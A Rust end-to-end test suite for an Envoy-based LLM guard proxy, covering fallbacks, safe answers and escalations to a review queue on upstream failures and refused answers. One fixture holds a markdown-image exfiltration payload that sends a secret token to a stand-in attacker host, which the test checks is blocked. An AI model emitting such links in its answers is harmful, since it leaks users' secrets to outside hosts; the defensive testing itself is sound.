//! Fallbacks through a real Envoy (docs/fallback.md): llm-telemetry acts on upstream failures,
//! schema-guard and prompt-guard on the answers they refuse, each with the policy of its route
//! (`tests/configs/fallback.yaml`, 1 s route timeouts), escalations going to the real approval
//! service's review queue.
//!
//! - every upstream failure before the headers (a 5xx answer, a reset, a route timeout) ×
//!   every outcome (error, safe answer, escalation) × OpenAI Chat and Anthropic × streamed or
//!   not: exact bodies, statuses, headers, audit records, access-log flags, metrics;
//! - a route without a fallback passes Envoy's own error on; Envoy's retries happen first;
//! - refused answers (a schema failure, an exfiltration link) × safe answer, whole or streamed
//!   (a stream under way ends with the safe text and a proper finish);
//! - escalations visible through the service's API and console; the service down falls back
//!   to the safe answer, else to the error;
//! - a stream the upstream cuts after its headers is recorded and counted.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic
)]

use anyhow::Result;
use e2e::{ApprovalService, Env, Resp, Spec, APPROVAL_CLIENT_TOKEN, APPROVER};
use guard_core::answer::{self, AnswerMeta, StreamEnding};
use guard_core::api::ApiShape;
use guard_core::sse::SseParser;
use guard_core::verdict::LocalReply;
use serde_json::{json, Value};

const TEMPLATE: &str = include_str!("../configs/fallback.yaml");
const UPSTREAM_SAFE: &str = "The assistant is unavailable right now. Please try again in a minute.";
const GUARD_SAFE: &str = "I can't share that answer.";
const ESCALATED: &str =
    "We could not answer this right away. A person will follow up (review {review_id}).";
const EXFIL: &str = "Here is your chart ![chart](https://evil.test/pixel.png?data=SECRET-TOKEN-123) and more text after it.";
const USER_TEXT: &str = "Summarise the report for bob@example.com please.";

struct Fixture {
    svc: ApprovalService,
    env: Env,
}

async fn start() -> Result<Fixture> {
    let svc = ApprovalService::start(&[
        "--approver-token",
        APPROVER,
        "--client-token",
        APPROVAL_CLIENT_TOKEN,
    ])
    .await?;
    let env = Env::start(
        Spec::template(TEMPLATE)
            .var("APPROVAL_PORT", &svc.addr.port().to_string())
            .var("UPSTREAM_SAFE", UPSTREAM_SAFE)
            .var("GUARD_SAFE", GUARD_SAFE)
            .var("ESCALATED", ESCALATED)
            .var("DEAD_PORT", &dead_port()?.to_string())
            .env("GUARD_APPROVAL_CLIENT_TOKEN", APPROVAL_CLIENT_TOKEN),
    )
    .await?;
    Ok(Fixture { svc, env })
}

/// A loopback port nothing listens on.
fn dead_port() -> Result<u16> {
    let l = std::net::TcpListener::bind("127.0.0.1:0")?;
    Ok(l.local_addr()?.port())
}

fn model(api: ApiShape) -> &'static str {
    if api == ApiShape::AnthropicMessages {
        "claude-test"
    } else {
        "gpt-test"
    }
}

fn api_path(api: ApiShape) -> &'static str {
    match api {
        ApiShape::OpenAiChat => "v1/chat/completions",
        ApiShape::AnthropicMessages => "v1/messages",
        ApiShape::OpenAiResponses => "v1/responses",
    }
}

/// A request of `api`; `schema`: structured output asked for.
fn request(api: ApiShape, stream: bool, schema: bool) -> Value {
    let s =
        json!({"type": "object", "required": ["name"], "properties": {"name": {"type": "string"}}});
    let mut v = match api {
        ApiShape::AnthropicMessages => json!({
            "model": model(api), "max_tokens": 100, "stream": stream,
            "messages": [{"role": "user", "content": USER_TEXT}],
        }),
        _ => json!({
            "model": model(api), "stream": stream,
            "messages": [{"role": "user", "content": USER_TEXT}],
        }),
    };
    if schema {
        if api == ApiShape::AnthropicMessages {
            v["output_config"] = json!({"format": {"type": "json_schema", "schema": s}});
        } else {
            v["response_format"] =
                json!({"type": "json_schema", "json_schema": {"name": "person", "schema": s}});
        }
    }
    v
}

async fn ask(
    env: &Env,
    route: &str,
    api: ApiShape,
    stream: bool,
    scenario: &str,
    rid: &str,
) -> Result<Resp> {
    env.client()
        .post(
            &format!("/{route}/{}", api_path(api)),
            request(api, stream, false).to_string(),
        )
        .header("x-request-id", rid)
        .header("x-user", "alice")
        .header("x-demo-scenario", scenario)
        .send()
        .await
}

/// The `created` / `created_at` of an answer we made (Anthropic has none).
fn created_of(api: ApiShape, stream: bool, body: &[u8]) -> u64 {
    let v: Value = if stream {
        let mut parser = SseParser::new(1 << 20);
        let mut events = Vec::new();
        parser.push(body, &mut |e| events.push(e)).unwrap();
        events
            .iter()
            .find_map(|e| serde_json::from_str(&e.data).ok())
            .unwrap_or(Value::Null)
    } else {
        serde_json::from_slice(body).unwrap_or(Value::Null)
    };
    match api {
        ApiShape::OpenAiChat => v["created"].as_u64().unwrap_or(0),
        ApiShape::OpenAiResponses => v["response"]["created_at"]
            .as_u64()
            .or(v["created_at"].as_u64())
            .unwrap_or(0),
        ApiShape::AnthropicMessages => 0,
    }
}

/// The answer with `text` exactly as the filters render it for this request.
fn expected(api: ApiShape, stream: bool, rid: &str, text: &str, body: &[u8]) -> Vec<u8> {
    let meta = AnswerMeta {
        api,
        model: model(api),
        request_id: rid,
        created: created_of(api, stream, body),
    };
    if stream {
        answer::stream(&meta, text)
    } else {
        answer::whole(&meta, text)
    }
}

/// The text a client assembles from an answer (whole or streamed).
fn answer_text(api: ApiShape, stream: bool, body: &[u8]) -> String {
    if stream {
        let a = e2e::assemble_stream(api, body).unwrap();
        assert!(a.done, "not terminated: {}", String::from_utf8_lossy(body));
        assert_eq!(a.error, None);
        return a.choices[0].content.clone();
    }
    let resp = guard_core::body::ResponseBody::parse(api, body).unwrap();
    assert!(!resp.is_error());
    resp.segments().iter().map(|s| s.text.to_string()).collect()
}

/// The access-log line of a request.
async fn log_line(env: &Env, rid: &str) -> Result<Value> {
    for _ in 0..600 {
        if let Some(l) = env
            .access_log(0)
            .await?
            .into_iter()
            .find(|l| l["request_id"] == rid)
        {
            return Ok(l);
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    anyhow::bail!("no access-log line for {rid}")
}

async fn review(svc: &ApprovalService, id: &str) -> Result<Value> {
    let r = svc
        .client()
        .get(&format!("/v1/reviews/{id}"))
        .header("x-approval-client-token", APPROVAL_CLIENT_TOKEN)
        .send()
        .await?;
    anyhow::ensure!(
        r.status == 200,
        "GET review {id}: {} {}",
        r.status,
        r.text()
    );
    r.json()
}

/// (scenario, kind in the record, status Envoy answers, access-log flag, message)
const FAILURES: [(&str, &str, u16, &str, &str); 3] = [
    (
        "status:503",
        "status",
        503,
        "-",
        "the model provider answered with an error; try again later",
    ),
    (
        "reset",
        "reset",
        503,
        "UC",
        "the model provider could not be reached; try again later",
    ),
    (
        "hang:3000",
        "timeout",
        504,
        "UT",
        "the model provider did not answer in time; try again later",
    ),
];

const APIS: [ApiShape; 2] = [ApiShape::OpenAiChat, ApiShape::AnthropicMessages];

#[tokio::test]
async fn upstream_failures_get_each_outcome_in_the_requests_shape() -> Result<()> {
    let f = start().await?;
    let env = &f.env;
    for (scenario, kind, status, flag, message) in FAILURES {
        for route in ["error", "safe", "escalate"] {
            for api in APIS {
                for stream in [false, true] {
                    let rid = format!("uf-{kind}-{route}-{}-{stream}", api.as_str());
                    let case = rid.clone();
                    let resp = ask(env, route, api, stream, scenario, &rid).await?;
                    let rec = env.audit_record("llm_telemetry", &rid).await?;
                    assert_eq!(rec["upstream_failure"]["kind"], kind, "{case}: {rec}");
                    assert_eq!(rec["upstream_failure"]["status"], status, "{case}");
                    assert!(rec["reasons"]
                        .as_array()
                        .unwrap()
                        .contains(&json!("upstream_failure")));
                    let line = log_line(env, &rid).await?;
                    assert_eq!(line["flags"], flag, "{case}: {line}");
                    let outcome = match route {
                        "error" => {
                            assert_eq!(resp.status, status, "{case}: {}", resp.text());
                            assert_eq!(
                                resp.header("x-guard-reason").as_deref(),
                                Some("upstream_failure")
                            );
                            assert_eq!(resp.header("x-guard-fallback"), None);
                            assert_eq!(
                                resp.header("content-type").as_deref(),
                                Some("application/json")
                            );
                            let want = LocalReply::new(status, "upstream_failure", message)
                                .body(Some(api), &rid);
                            assert_eq!(resp.text(), String::from_utf8(want).unwrap(), "{case}");
                            "error"
                        }
                        "safe" => {
                            assert_eq!(resp.status, 200, "{case}: {}", resp.text());
                            assert_eq!(
                                resp.header("x-guard-fallback").as_deref(),
                                Some("safe_answer")
                            );
                            assert_eq!(resp.header("x-guard-reason"), None);
                            let ct = if stream {
                                "text/event-stream"
                            } else {
                                "application/json"
                            };
                            assert_eq!(resp.header("content-type").as_deref(), Some(ct));
                            let want = expected(api, stream, &rid, UPSTREAM_SAFE, &resp.body);
                            assert_eq!(resp.text(), String::from_utf8(want).unwrap(), "{case}");
                            assert_eq!(answer_text(api, stream, &resp.body), UPSTREAM_SAFE);
                            "safe_answer"
                        }
                        _ => {
                            assert_eq!(resp.status, 200, "{case}: {}", resp.text());
                            assert_eq!(
                                resp.header("x-guard-fallback").as_deref(),
                                Some("escalate")
                            );
                            let id = rec["fallback"]["review_id"].as_str().unwrap().to_string();
                            let text = ESCALATED.replace("{review_id}", &id);
                            let want = expected(api, stream, &rid, &text, &resp.body);
                            assert_eq!(resp.text(), String::from_utf8(want).unwrap(), "{case}");
                            // The review, as the service has it.
                            let r = review(&f.svc, &id).await?;
                            assert_eq!(r["status"], "open");
                            assert_eq!(r["trigger"], "upstream_failure");
                            assert_eq!(r["reason"], "upstream_failure");
                            assert_eq!(r["request_id"], rid.as_str());
                            assert_eq!(r["caller"], "alice");
                            assert_eq!(r["filter"], "llm_telemetry");
                            assert_eq!(r["route"], "fb_escalate");
                            assert_eq!(r["api"], api.as_str());
                            assert_eq!(r["model"], model(api));
                            assert_eq!(r["http_status"], status);
                            "escalate"
                        }
                    };
                    let mut want_fb = json!({"trigger": "upstream_failure", "outcome": outcome});
                    if outcome == "escalate" {
                        want_fb["review_id"] = rec["fallback"]["review_id"].clone();
                    }
                    assert_eq!(rec["fallback"], want_fb, "{case}");
                    // The filter state access logs can show.
                    let fb: Value = serde_json::from_str(line["fallback"].as_str().unwrap())?;
                    assert_eq!(fb["filter"], "llm_telemetry");
                    assert_eq!(fb["outcome"], outcome);
                    let final_status = if route == "error" { status } else { 200 };
                    assert_eq!(line["status"], final_status, "{case}");
                }
            }
        }
    }
    // Counted by kind, by outcome, and the reviews made.
    for kind in ["status", "reset", "timeout"] {
        let n = env
            .counter(&format!(
                "wasmcustom.guard.llm_telemetry.upstream.{kind}.failures"
            ))
            .await?;
        assert_eq!(n, 12, "{kind}");
    }
    for outcome in ["error", "safe_answer", "escalate"] {
        let n = env
            .counter(&format!(
                "wasmcustom.guard.llm_telemetry.trigger.upstream_failure.fallback.{outcome}.fallbacks"
            ))
            .await?;
        assert_eq!(n, 12, "{outcome}");
    }
    assert_eq!(
        env.counter("wasmcustom.guard.llm_telemetry.escalation.created.reviews")
            .await?,
        12
    );
    // The labels Prometheus gets.
    let prom = env
        .wait_prometheus(|t| t.contains("guard_fallbacks{"))
        .await?;
    for want in [
        r#"guard_failures{guard_filter="llm_telemetry",upstream_failure="timeout"} 12"#,
        r#"guard_fallbacks{guard_filter="llm_telemetry",trigger="upstream_failure",fallback="safe_answer"} 12"#,
        r#"guard_reviews{guard_filter="llm_telemetry",escalation="created"} 12"#,
    ] {
        assert!(prom.contains(want), "{want} in\n{prom}");
    }
    f.env.finish();
    Ok(())
}

#[tokio::test]
async fn without_a_fallback_envoys_error_passes_and_retries_come_first() -> Result<()> {
    let f = start().await?;
    let env = &f.env;
    // No fallback on the route: Envoy's plain-text 503 and the upstream's own JSON 503 pass.
    let resp = ask(
        env,
        "none",
        ApiShape::OpenAiChat,
        false,
        "reset",
        "none-reset",
    )
    .await?;
    assert_eq!(resp.status, 503);
    assert_eq!(resp.header("content-type").as_deref(), Some("text/plain"));
    assert!(
        resp.text().starts_with("upstream connect error"),
        "{}",
        resp.text()
    );
    assert_eq!(resp.header("x-guard-reason"), None);
    let resp = ask(
        env,
        "none",
        ApiShape::AnthropicMessages,
        false,
        "status:503",
        "none-503",
    )
    .await?;
    assert_eq!(resp.status, 503);
    assert_eq!(
        resp.json()?["error"]["message"],
        "scripted error: status 503"
    );
    let rec = env.audit_record("llm_telemetry", "none-503").await?;
    assert!(
        rec.get("fallback").is_none() && rec.get("upstream_failure").is_none(),
        "{rec}"
    );

    // Envoy retries 5xx (and resets, 429) before the headers: the filters see the last try
    // (URX: the retries ran out).
    for (scenario, rid, attempts, flags) in [
        ("status:503", "retry-503", 3, "URX"),
        ("reset", "retry-reset", 3, "URX,UC"),
        ("status:429", "retry-429", 3, "URX"),
        ("echo", "retry-ok", 1, "-"),
    ] {
        env.upstream.clear();
        let resp = ask(env, "retry", ApiShape::OpenAiChat, false, scenario, rid).await?;
        let line = log_line(env, rid).await?;
        assert_eq!(env.upstream.received().len(), attempts, "{rid}");
        assert_eq!(line["attempts"], attempts, "{rid}: {line}");
        assert_eq!(line["flags"], flags, "{rid}: {line}");
        match scenario {
            "status:503" | "reset" => {
                assert_eq!(resp.status, 503, "{rid}");
                assert_eq!(
                    resp.header("x-guard-reason").as_deref(),
                    Some("upstream_failure")
                );
            }
            "status:429" => {
                // Not a 5xx: the provider's own answer, after the retries.
                assert_eq!(resp.status, 429);
                assert_eq!(resp.header("x-guard-reason"), None);
            }
            _ => assert_eq!(resp.status, 200),
        }
    }
    // A refused connection: Envoy's 503 (UF), kind connect_failure.
    let resp = ask(env, "dead", ApiShape::OpenAiChat, false, "echo", "dead").await?;
    assert_eq!(resp.status, 503);
    assert_eq!(
        resp.text(),
        String::from_utf8(
            LocalReply::new(
                503,
                "upstream_failure",
                "the model provider could not be reached; try again later"
            )
            .body(Some(ApiShape::OpenAiChat), "dead")
        )
        .unwrap()
    );
    let line = log_line(env, "dead").await?;
    assert_eq!(line["flags"], "UF", "{line}");
    let rec = env.audit_record("llm_telemetry", "dead").await?;
    assert_eq!(rec["upstream_failure"]["kind"], "connect_failure", "{rec}");
    assert!(rec["upstream_failure"]["details"]
        .as_str()
        .unwrap()
        .starts_with("upstream_reset_before_response_started{"));
    // per_try_timeout (1 s here) bounds the wait for an attempt's headers, not the stream:
    // a 2.5 s stream passes whole, never retried.
    env.upstream.clear();
    let resp = env
        .client()
        .post(
            "/retry/v1/chat/completions",
            request(ApiShape::OpenAiChat, true, false).to_string(),
        )
        .header("x-request-id", "retry-slow-stream")
        .header("x-demo-scenario", "long:100")
        .header("x-demo-chunk-size", "256")
        .header("x-demo-chunk-delay-ms", "250")
        .send()
        .await?;
    assert_eq!(resp.status, 200);
    let a = e2e::assemble_stream(ApiShape::OpenAiChat, &resp.body)?;
    assert!(a.done, "cut: {}", resp.text());
    assert_eq!(a.choices[0].content.len(), 100);
    let line = log_line(env, "retry-slow-stream").await?;
    assert_eq!(line["attempts"], 1);
    let ms = env
        .audit_record("llm_telemetry", "retry-slow-stream")
        .await?["duration_ms"]
        .as_u64()
        .unwrap();
    assert!(ms > 1500, "{ms} ms");
    // A secondary provider: the aggregate cluster's next priority takes the retry.
    env.upstream.clear();
    let resp = ask(
        env,
        "failover",
        ApiShape::OpenAiChat,
        false,
        "echo",
        "failover",
    )
    .await?;
    assert_eq!(resp.status, 200, "{}", resp.text());
    let line = log_line(env, "failover").await?;
    assert_eq!(line["attempts"], 2, "{line}");
    let secondary = format!("127.0.0.1:{}", env.upstream.addr().port());
    assert_eq!(line["upstream_host"], secondary.as_str(), "{line}");
    assert_eq!(env.upstream.received().len(), 1);
    f.env.finish();
    Ok(())
}

/// Ask for structured output and get prose: schema-guard refuses the answer.
async fn ask_schema(
    env: &Env,
    route: &str,
    api: ApiShape,
    stream: bool,
    rid: &str,
) -> Result<Resp> {
    env.client()
        .post(
            &format!("/{route}/{}", api_path(api)),
            request(api, stream, true).to_string(),
        )
        .header("x-request-id", rid)
        .header("x-user", "alice")
        .header(
            "x-demo-scenario",
            "text:Sure, here is the person you asked for.",
        )
        .send()
        .await
}

/// The answer text carries an exfiltration link: prompt-guard refuses it.
async fn ask_exfil(env: &Env, route: &str, api: ApiShape, stream: bool, rid: &str) -> Result<Resp> {
    env.client()
        .post(
            &format!("/{route}/{}", api_path(api)),
            request(api, stream, false).to_string(),
        )
        .header("x-request-id", rid)
        .header("x-user", "alice")
        .header("x-demo-scenario", format!("text:{EXFIL}"))
        .header("x-demo-chunk-size", "7")
        .send()
        .await
}

/// Where our ending of a stream under way starts: the split `k` (at an event boundary) for
/// which the ending computed from `body[..k]` is exactly `body[k..]`.
fn ending_split(api: ApiShape, rid: &str, text: &str, body: &[u8]) -> Option<usize> {
    let mut k = 0;
    loop {
        let mut e = StreamEnding::new(&AnswerMeta {
            api,
            model: model(api),
            request_id: rid,
            created: created_of(api, true, body),
        });
        e.observe(&body[..k]);
        if e.finish(text) == body[k..] {
            return Some(k);
        }
        let next = body[k..].windows(2).position(|w| w == b"\n\n")?;
        k += next + 2;
    }
}

#[tokio::test]
async fn refused_answers_get_the_safe_answer_whole_or_streamed() -> Result<()> {
    let f = start().await?;
    let env = &f.env;
    for api in APIS {
        for stream in [false, true] {
            // schema-guard: the answer does not match the requested schema.
            let rid = format!("schema-{}-{stream}", api.as_str());
            let resp = ask_schema(env, "safe", api, stream, &rid).await?;
            assert_eq!(resp.status, 200, "{rid}: {}", resp.text());
            let want = expected(api, stream, &rid, GUARD_SAFE, &resp.body);
            // A held answer is replaced (and marked); a stream is held whole by schema-guard
            // (buffer mode) and its headers already went: the whole stream is the safe one.
            assert_eq!(resp.text(), String::from_utf8(want).unwrap(), "{rid}");
            let marked = resp.header("x-guard-fallback");
            assert_eq!(
                marked.as_deref(),
                (!stream).then_some("safe_answer"),
                "{rid}"
            );
            assert_eq!(answer_text(api, stream, &resp.body), GUARD_SAFE);
            let rec = env.audit_record("schema_guard", &rid).await?;
            assert_eq!(rec["decision"], "block", "{rec}");
            assert_eq!(rec["reasons"], json!(["schema_violation"]));
            assert_eq!(
                rec["fallback"],
                json!({"trigger": "flagged_answer", "outcome": "safe_answer"})
            );
            // The filter above (llm-telemetry) passed the fallback on untouched.
            let tel = env.audit_record("llm_telemetry", &rid).await?;
            assert!(tel.get("fallback").is_none(), "{tel}");

            // prompt-guard: an exfiltration link in the answer.
            let rid = format!("exfil-{}-{stream}", api.as_str());
            let resp = ask_exfil(env, "safe", api, stream, &rid).await?;
            assert_eq!(resp.status, 200, "{rid}: {}", resp.text());
            assert!(!resp.text().contains("SECRET-TOKEN"), "{rid}");
            let text = answer_text(api, stream, &resp.body);
            if stream {
                // What went out before the refusal stays (the link itself neutralised); the
                // safe text ends the stream.
                assert!(text.starts_with("Here is your"), "{rid}: {text}");
                assert!(text.ends_with(GUARD_SAFE), "{rid}: {text}");
                let k = ending_split(api, &rid, GUARD_SAFE, &resp.body);
                assert!(k.is_some_and(|k| k > 0), "{rid}: {}", resp.text());
                assert_eq!(resp.header("x-guard-fallback"), None);
            } else {
                let want = expected(api, stream, &rid, GUARD_SAFE, &resp.body);
                assert_eq!(resp.text(), String::from_utf8(want).unwrap(), "{rid}");
                assert_eq!(
                    resp.header("x-guard-fallback").as_deref(),
                    Some("safe_answer")
                );
            }
            let rec = env.audit_record("prompt_guard", &rid).await?;
            assert_eq!(rec["decision"], "block", "{rec}");
            assert!(rec["reasons"]
                .as_array()
                .unwrap()
                .contains(&json!("exfiltration")));
            assert_eq!(
                rec["fallback"],
                json!({"trigger": "flagged_answer", "outcome": "safe_answer"})
            );
        }
    }
    // The same refusals without a fallback: the provider-shaped error (502) as before.
    let resp = ask_schema(env, "none", ApiShape::OpenAiChat, false, "schema-none").await?;
    assert_eq!(resp.status, 502);
    assert_eq!(
        resp.header("x-guard-reason").as_deref(),
        Some("schema_violation")
    );
    let resp = ask_exfil(env, "none", ApiShape::OpenAiChat, true, "exfil-none").await?;
    let text = resp.text();
    assert!(text.contains("\"code\":\"exfiltration\""), "{text}");
    for (filter, n) in [("schema_guard", 4), ("prompt_guard", 4)] {
        let c = env
            .counter(&format!(
                "wasmcustom.guard.{filter}.trigger.flagged_answer.fallback.safe_answer.fallbacks"
            ))
            .await?;
        assert_eq!(c, n, "{filter}");
    }
    f.env.finish();
    Ok(())
}

#[tokio::test]
async fn escalations_reach_the_review_queue_and_fall_back_when_it_is_down() -> Result<()> {
    let mut f = start().await?;
    // A refused whole answer: the review, then the answer naming it.
    let rid = "esc-schema";
    let resp = ask_schema(&f.env, "escalate", ApiShape::OpenAiChat, false, rid).await?;
    assert_eq!(resp.status, 200, "{}", resp.text());
    assert_eq!(resp.header("x-guard-fallback").as_deref(), Some("escalate"));
    let rec = f.env.audit_record("schema_guard", rid).await?;
    let id = rec["fallback"]["review_id"].as_str().unwrap().to_string();
    let text = ESCALATED.replace("{review_id}", &id);
    let want = expected(ApiShape::OpenAiChat, false, rid, &text, &resp.body);
    assert_eq!(resp.text(), String::from_utf8(want).unwrap());
    let r = review(&f.svc, &id).await?;
    assert_eq!(r["trigger"], "flagged_answer");
    assert_eq!(r["reason"], "schema_violation");
    assert_eq!(r["filter"], "schema_guard");
    assert_eq!(r["caller"], "alice");
    assert_eq!(r["request_id"], rid);
    assert_eq!(r["http_status"], 502);
    // The console lists it with the reason, the request id, the caller and a masked excerpt.
    let home = f
        .svc
        .client()
        .get("/")
        .header("authorization", "Bearer approver-secret")
        .send()
        .await?
        .text();
    let at = home.find(&format!("/reviews/{id}")).expect("listed");
    let row = &home[at..at + home[at..].find("</tr>").unwrap()];
    for want in ["schema_violation", rid, "alice", "[EMAIL]"] {
        assert!(row.contains(want), "{want} in {row}");
    }
    assert!(!home.contains("bob@example.com"));
    let detail = f
        .svc
        .client()
        .get(&format!("/reviews/{id}"))
        .header("authorization", "Bearer approver-secret")
        .send()
        .await?
        .text();
    assert!(
        detail.contains("user: Summarise the report for [EMAIL] please.")
            && detail.contains("assistant: Sure, here is the person you asked for."),
        "{detail}"
    );
    // A refused stream under way: held while the review is made, then ended with its answer.
    let rid = "esc-exfil-stream";
    let resp = ask_exfil(&f.env, "escalate", ApiShape::AnthropicMessages, true, rid).await?;
    let rec = f.env.audit_record("prompt_guard", rid).await?;
    let id = rec["fallback"]["review_id"].as_str().unwrap().to_string();
    let text = ESCALATED.replace("{review_id}", &id);
    let k = ending_split(ApiShape::AnthropicMessages, rid, &text, &resp.body);
    assert!(k.is_some_and(|k| k > 0), "{}", resp.text());
    assert!(answer_text(ApiShape::AnthropicMessages, true, &resp.body).ends_with(&text));
    let r = review(&f.svc, &id).await?;
    assert_eq!(r["reason"], "exfiltration");
    assert_eq!(r["filter"], "prompt_guard");

    // The service down: the safe answer where the policy has one, else the error; counted.
    f.svc.stop();
    let resp = ask_schema(&f.env, "escalate", ApiShape::OpenAiChat, false, "down-safe").await?;
    assert_eq!(resp.status, 200);
    assert_eq!(
        resp.header("x-guard-fallback").as_deref(),
        Some("safe_answer")
    );
    let want = expected(
        ApiShape::OpenAiChat,
        false,
        "down-safe",
        GUARD_SAFE,
        &resp.body,
    );
    assert_eq!(resp.text(), String::from_utf8(want).unwrap());
    let rec = f.env.audit_record("schema_guard", "down-safe").await?;
    assert_eq!(
        rec["fallback"],
        json!({"trigger": "flagged_answer", "outcome": "safe_answer", "escalation": "failed"})
    );
    let resp = ask_schema(
        &f.env,
        "nosafe",
        ApiShape::AnthropicMessages,
        false,
        "down-nosafe",
    )
    .await?;
    assert_eq!(resp.status, 502);
    assert_eq!(
        resp.header("x-guard-reason").as_deref(),
        Some("schema_violation")
    );
    assert_eq!(resp.json()?["error"]["code"], "schema_violation");
    let resp = ask(
        &f.env,
        "nosafe",
        ApiShape::OpenAiChat,
        true,
        "reset",
        "down-upstream",
    )
    .await?;
    assert_eq!(resp.status, 503);
    assert_eq!(
        resp.header("x-guard-reason").as_deref(),
        Some("upstream_failure")
    );
    let rec = f.env.audit_record("llm_telemetry", "down-upstream").await?;
    assert_eq!(
        rec["fallback"],
        json!({"trigger": "upstream_failure", "outcome": "error", "escalation": "failed"})
    );
    assert_eq!(
        f.env
            .counter("wasmcustom.guard.schema_guard.escalation.failed.reviews")
            .await?,
        2
    );
    assert_eq!(
        f.env
            .counter("wasmcustom.guard.llm_telemetry.escalation.failed.reviews")
            .await?,
        1
    );
    // Back up: escalations work again.
    f.svc.restart().await?;
    let resp = ask(
        &f.env,
        "escalate",
        ApiShape::OpenAiChat,
        false,
        "status:500",
        "back-up",
    )
    .await?;
    assert_eq!(resp.header("x-guard-fallback").as_deref(), Some("escalate"));
    f.env.finish();
    Ok(())
}

#[tokio::test]
async fn a_stream_cut_after_its_headers_is_recorded_and_counted() -> Result<()> {
    let f = start().await?;
    let env = &f.env;
    for (route, rid, counted) in [
        ("error", "cut-1", 1),
        ("none", "cut-2", 1),
        ("safe", "cut-3", 2),
    ] {
        let body = request(ApiShape::OpenAiChat, true, false).to_string();
        let raw = format!(
            "POST /{route}/v1/chat/completions HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\
             content-type: application/json\r\nx-request-id: {rid}\r\nx-demo-scenario: cut\r\n\
             content-length: {}\r\n\r\n{body}",
            body.len()
        );
        let got = e2e::raw_http1(env.listen, raw.as_bytes()).await?;
        let text = String::from_utf8_lossy(&got);
        // The headers and the first event went out; the rest never comes.
        assert!(text.starts_with("HTTP/1.1 200 OK"), "{text}");
        assert!(text.contains("data: {"), "{text}");
        assert!(!text.contains("[DONE]"), "{text}");
        let rec = env.audit_record("llm_telemetry", rid).await?;
        assert!(
            rec["reasons"]
                .as_array()
                .unwrap()
                .contains(&json!("upstream_cut")),
            "{rec}"
        );
        let details = rec["upstream_cut"]["details"].as_str().unwrap();
        assert!(
            details.starts_with("upstream_reset_after_response_started"),
            "{details}"
        );
        assert_eq!(rec["upstream_cut"]["status"], 200);
        assert!(rec.get("fallback").is_none());
        let line = log_line(env, rid).await?;
        assert_eq!(line["details"], details);
        assert_eq!(line["flags"], "UPE", "{line}");
        assert_eq!(line["status"], 200);
        // Counted where the policy acts on upstream failures (not on the route without).
        assert_eq!(
            env.counter("wasmcustom.guard.llm_telemetry.upstream.cut.failures")
                .await?,
            counted,
            "{rid}"
        );
    }
    f.env.finish();
    Ok(())
}

/// The shipped chains (separate filters and the combined module): Envoy retries a failing
/// upstream twice, then llm-telemetry answers with the provider-shaped `upstream_failure`.
#[tokio::test]
async fn the_shipped_chains_retry_then_answer_upstream_failures_in_the_providers_shape(
) -> Result<()> {
    for config in ["envoy/envoy.yaml", "envoy/envoy-all.yaml"] {
        let env = Env::start(Spec::shipped_file(config)).await?;
        for (scenario, status, message) in [
            (
                "reset",
                503,
                "the model provider could not be reached; try again later",
            ),
            (
                "status:502",
                502,
                "the model provider answered with an error; try again later",
            ),
        ] {
            for api in APIS {
                env.upstream.clear();
                let rid = format!("shipped-{scenario}-{}", api.as_str());
                let resp = env
                    .client()
                    .post(
                        &format!("/{}", api_path(api)),
                        request(api, true, false).to_string(),
                    )
                    .header("x-request-id", &rid)
                    .header("x-demo-scenario", scenario)
                    .send()
                    .await?;
                assert_eq!(resp.status, status, "{config} {rid}: {}", resp.text());
                assert_eq!(
                    resp.header("x-guard-reason").as_deref(),
                    Some("upstream_failure")
                );
                let want =
                    LocalReply::new(status, "upstream_failure", message).body(Some(api), &rid);
                assert_eq!(
                    resp.text(),
                    String::from_utf8(want).unwrap(),
                    "{config} {rid}"
                );
                assert_eq!(
                    env.upstream.received().len(),
                    3,
                    "{config} {rid}: retried twice"
                );
                let line = log_line(&env, &rid).await?;
                assert!(line["flags"].as_str().unwrap().contains("URX"), "{line}");
                let fb: Value = serde_json::from_str(line["fallback"].as_str().unwrap())?;
                assert_eq!(
                    fb,
                    json!({"trigger": "upstream_failure", "outcome": "error", "filter": "llm_telemetry"})
                );
            }
        }
        env.finish();
    }
    Ok(())
}
